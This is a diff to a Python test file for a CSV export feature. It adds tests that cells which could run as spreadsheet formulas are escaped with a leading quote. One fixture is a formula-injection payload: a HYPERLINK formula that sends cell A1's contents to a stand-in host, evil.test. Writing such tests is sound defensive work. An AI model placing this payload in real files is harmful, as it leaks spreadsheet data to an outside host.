@@ -5,6 +5,7 @@ results stores; the CLI in a subprocess (tests/test_cli.py's harness)."""
 
 from __future__ import annotations
 
+import csv
 import json
 import tracemalloc
 from collections.abc import Iterator
@@ -37,6 +38,31 @@ def store(tmp_path: Path) -> Iterator[ResultsStore]:
 
 def product(key: str, **data: object) -> Record:
     return Record(type="product", key=key, data=data)  # type: ignore[arg-type]
+
+
+# -- CSV: formulas ----------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
+FORMULAS += ["\t=1", "\r=1"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted(
+    store: ResultsStore, tmp_path: Path
+) -> None:
+    records = [product(f"k{i}", title=text, n=-5) for i, text in enumerate(FORMULAS)]
+    records += [product("=key", title="plain = text", n=1.5)]
+    store.replace("parse", "r", records)
+
+    assert export(store, "product", tmp_path / "p.csv") == len(records)
+    with (tmp_path / "p.csv").open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert [r["title"] for r in rows[1:]] == ["'" + text for text in FORMULAS]
+    assert rows[0] == {"key": "'=key", "title": "plain = text", "n": "1.5"}
+    assert {r["n"] for r in rows[1:]} == {"-5"}  # numbers are no formula
+
+    assert export(store, "product", tmp_path / "raw.csv", escape_formulas=False) == len(records)
+    with (tmp_path / "raw.csv").open(newline="") as file:
+        assert [r["title"] for r in csv.DictReader(file)][1:] == FORMULAS
 
 
 # -- streaming --------------------------------------------------------------------------------
@@ -110,3 +136,9 @@ def test_an_unwritable_path_is_one_error_line(exporting: Cli) -> None:
     line = run_export(exporting, "/proc/x.parquet")  # pyarrow's own error
     assert line.startswith("Error: cannot write /proc/x.parquet: "), line
     assert "No such file or directory" in line, line
+
+
+def test_the_help_says_what_export_does_to_csv_cells(cli: Cli) -> None:
+    help_text = " ".join(cli.ok("export", "--help").out.split())
+    assert "In CSV, text starting with = + - @, a tab or a carriage return is written" in help_text
+    assert "with a leading '" in help_text
